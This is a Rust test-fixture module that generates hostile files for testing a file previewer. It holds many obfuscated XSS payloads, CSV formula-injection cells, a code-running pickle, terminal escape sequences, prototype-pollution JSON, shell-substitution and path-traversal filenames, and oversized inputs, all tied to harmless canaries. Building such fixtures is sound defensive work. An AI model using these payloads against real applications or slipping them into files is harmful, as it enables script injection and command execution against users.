//! What somebody who means harm could leave in a volume, for the tests of whoever shows it: files that would
//! run a script, ask a server, unfold into endless data or pass for something else where they are not read with
//! care. What could run sets `window.ran`, or asks the server at the address that is given, so that a page or a
//! program that falls for it betrays itself.
//!
//! Every format has more spellings than anybody can list. These are the ones that other programs fell for.

mod drawings;
mod notebooks;
mod packed;

/// A file, and what somebody who opens it is to see.
#[derive(Debug, Clone)]
pub struct HostileFile {
    /// Its name as Linux has it: any bytes but `/` and zero.
    pub name: Vec<u8>,
    /// Its name as it may be shown.
    pub shown: String,
    pub bytes: Vec<u8>,
    /// Words of its preview, which tell that it was read as what it is, or why it was not.
    pub says: String,
}

impl HostileFile {
    fn new(name: &str, says: &str, bytes: impl Into<Vec<u8>>) -> Self {
        Self::named(name.as_bytes(), name, says, bytes)
    }

    fn named(name: &[u8], shown: &str, says: &str, bytes: impl Into<Vec<u8>>) -> Self {
        Self {
            name: name.to_vec(),
            shown: shown.to_owned(),
            bytes: bytes.into(),
            says: says.to_owned(),
        }
    }
}

/// All of them. `canary` is the address of a server, `http://…`, that nobody may ask for anything.
pub fn files(canary: &str) -> Vec<HostileFile> {
    let mut files = notebooks::files(canary);
    files.extend(drawings::files(canary));
    files.extend(documents(canary));
    files.extend(tables(canary));
    files.extend(packed::files(canary));
    files.extend(names());
    files
}

/// Spellings of addresses that run a script, or lead where no document should.
const ADDRESSES: [&str; 12] = [
    "javascript:window.ran=1",
    "JaVaScRiPt:window.ran=1",
    "&#106;avascript:window.ran=1",
    "&#x6A;avascript&colon;window.ran=1",
    "java&Tab;script:window.ran=1",
    "%6Aavascript:window.ran=1",
    "\u{1}javascript:window.ran=1",
    "vbscript:window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=",
    "file:///etc/passwd",
    "blob:null/window.ran=1",
];

/// Markup that acts as soon as a page takes it for its own.
fn markup(canary: &str) -> String {
    let script = format!("window.ran=1;fetch('{canary}/script')");
    format!(
        r#"<script>{script}</script><script src="{canary}/s.js"></script>
<img src=x onerror="{script}"><img src="{canary}/i.png" srcset="{canary}/s.png 2x">
<svg onload="{script}"><animate onbegin="{script}" attributeName=x dur=1s /></svg>
<iframe src="{canary}/f.html"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe>
<object data="{canary}/o.swf"></object><embed src="{canary}/e.swf">
<link rel="stylesheet" href="{canary}/l.css"><style>@import url({canary}/c.css); body {{ background: url({canary}/b.png) }}</style>
<meta http-equiv="refresh" content="0;url={canary}/m.html"><base href="{canary}/">
<form action="{canary}/form"><button autofocus onfocus="{script}" formaction="javascript:{script}">Press</button></form>
<video src="{canary}/v.mp4" onerror="{script}"></video><audio src="{canary}/a.mp3" autoplay></audio>
<details open ontoggle="{script}"><summary>more</summary></details>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={script}&gt;">
<noscript><p title="</noscript><img src=x onerror={script}>"></noscript>
<a href="javascript:{script}" ping="{canary}/ping">here</a> <div style="background:url({canary}/d.png)">there</div>
"#
    )
}

fn documents(canary: &str) -> Vec<HostileFile> {
    let links: Vec<String> = ADDRESSES
        .iter()
        .enumerate()
        .map(|(number, address)| {
            format!("- [trap {number}]({address}) [again {number}](<{address}> \"t\") <{address}> ![drawn {number}]({address}) [by name {number}][n{number}]\n\n[n{number}]: {address}\n")
        })
        .collect();
    let links = links.concat();
    let markdown = format!(
        "# Notes on the harbour\n\n[The harbour's page]({canary}/page)\n\n![Tides]({canary}/tides.png) ![Beside](../../../etc/passwd)\n\n{links}\n{}\n<!-- --> <script>window.ran=1</script>\n",
        markup(canary)
    );
    let deep = format!(
        "Quotes within quotes\n\n{}deep\n\n{}a\n\n{}b{}\n\n{}c\n",
        "> ".repeat(20_000),
        "- ".repeat(20_000),
        "[".repeat(50_000),
        "](x)".repeat(50_000),
        "*".repeat(50_000)
    );
    let log = format!(
        "\u{1b}]8;;javascript:window.ran=1\u{7}written in the log\u{1b}]8;;\u{7}\n\u{1b}]0;another title\u{7}\u{1b}[2J\u{1b}[999999999;999999999H\u{1b}[38;5;999m{}\n",
        markup(canary)
    );
    vec![
        HostileFile::new("notes.md", "Notes on the harbour", markdown),
        HostileFile::new("deep.md", "Quotes within quotes", deep),
        HostileFile::new(
            "page.html",
            "<title>A page of the harbour",
            format!(
                "<!doctype html>\n<title>A page of the harbour</title>\n{}",
                markup(canary)
            ),
        ),
        HostileFile::new("server.log", "written in the log", log),
        HostileFile::new(
            "style.css",
            "A sheet of the harbour",
            format!(
                "/* A sheet of the harbour */\n@import url({canary}/c.css);\n</style><script>window.ran=1</script>\n"
            ),
        ),
        HostileFile::new(
            "depths.json",
            "[",
            format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)),
        ),
        HostileFile::new(
            "model.pkl",
            "Opening a pickle runs what is in it",
            b"\x80\x04cos\nsystem\n(S'touch /tmp/ran'\ntR.".to_vec(),
        ),
        HostileFile::new(
            "endless-line.txt",
            "one line",
            format!("one line {}", "x".repeat(10_000_000)),
        ),
    ]
}

fn tables(canary: &str) -> Vec<HostileFile> {
    let formulas = format!(
        "what,value\ncommand,=cmd|' /C calc'!A0\nlink,\"=HYPERLINK(\"\"{canary}/h\"\",\"\"press\"\")\"\npicture,\"=IMAGE(\"\"{canary}/i.png\"\")\"\nsum,@SUM(1+1)*cmd|' /C calc'!A0\nplus,+1+cmd|' /C calc'!A0\ntab,\"\t=1+1\"\nmarkup,\"{}\"\nturned,\u{202e}gpj.exe\n",
        markup(canary).replace('"', "\"\"")
    );
    let wide: Vec<String> = (0..100_000)
        .map(|column| format!("column-{column}"))
        .collect();
    let mut zeros = b"name,value\nwith a zero\0,1\n".to_vec();
    zeros.extend([0; 5000]);
    vec![
        HostileFile::new("formulas.csv", "=HYPERLINK(", formulas),
        HostileFile::new(
            "long-line.csv",
            "a long value",
            format!("name,value\na long value {},1\n", "x".repeat(10_000_000)),
        ),
        HostileFile::new(
            "open-quote.csv",
            "never closed",
            format!("name,value\n\"never closed,{}", "line\n".repeat(200_000)),
        ),
        HostileFile::new(
            "wide.csv",
            "column-0",
            format!("{}\n{}\n", wide.join(","), "1,".repeat(99_999)),
        ),
        HostileFile::new("zeros.csv", "Bytes as hexadecimal digits", zeros),
        HostileFile::new(
            "markup.jsonl",
            "a row",
            format!(
                "{{\"<img src=x onerror='window.ran=1'>\":\"a row\"}}\n{{\"__proto__\":{{\"ran\":1}},\"constructor\":\"{canary}\"}}\n"
            ),
        ),
    ]
}

/// Files that are nothing but their names.
fn names() -> Vec<HostileFile> {
    const SAYS: &str = "nothing but its name";
    let plain = [
        "<img src=x onerror=\"window.ran=1\">.txt",
        "\"><svg onload=window.ran=1>.txt",
        "javascript:window.ran=1",
        "$(touch ran); `touch ran`.txt",
        "{{constructor.constructor('window.ran=1')()}}.txt",
        "${window.ran=1}.txt",
        "-rf",
        "x\\..\\..\\windows.txt",
        "%2e%2e%2fetc%2fpasswd",
        "latin\\xE9.txt",
    ];
    let mut files: Vec<HostileFile> = plain
        .into_iter()
        .map(|name| HostileFile::new(name, SAYS, SAYS))
        .collect();
    for (name, shown) in [
        (&b"two\nlines.txt"[..], "two␊lines.txt"),
        (b"bell\x07and\x1b[2Jclear.txt", "bell␇and␛[2Jclear.txt"),
        ("turned\u{202e}gpj.exe".as_bytes(), "turned⟨U+202E⟩gpj.exe"),
        (
            "in\u{200b}visible\u{2066}.txt".as_bytes(),
            "in⟨U+200B⟩visible⟨U+2066⟩.txt",
        ),
        (b"latin\xe9.txt", "latin⟨E9⟩.txt"),
        (b"\xff\xfe\xc0\x80", "⟨FF⟩⟨FE⟩⟨C0⟩⟨80⟩"),
    ] {
        files.push(HostileFile::named(name, shown, SAYS, SAYS));
    }
    let long = "n".repeat(255);
    files.push(HostileFile::new(&long, SAYS, SAYS));
    files
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::files;

    #[test]
    fn every_file_has_a_name_of_its_own_that_linux_allows() {
        let files = files("http://127.0.0.1:1");
        let names: BTreeSet<&[u8]> = files.iter().map(|file| file.name.as_slice()).collect();
        assert_eq!(names.len(), files.len(), "no name is there twice");
        for name in names {
            assert!(
                !name.is_empty()
                    && name.len() <= 255
                    && !name.contains(&b'/')
                    && !name.contains(&0)
            );
        }
        let shown: BTreeSet<&str> = files.iter().map(|file| file.shown.as_str()).collect();
        assert_eq!(shown.len(), files.len(), "they can be told apart");
    }
}
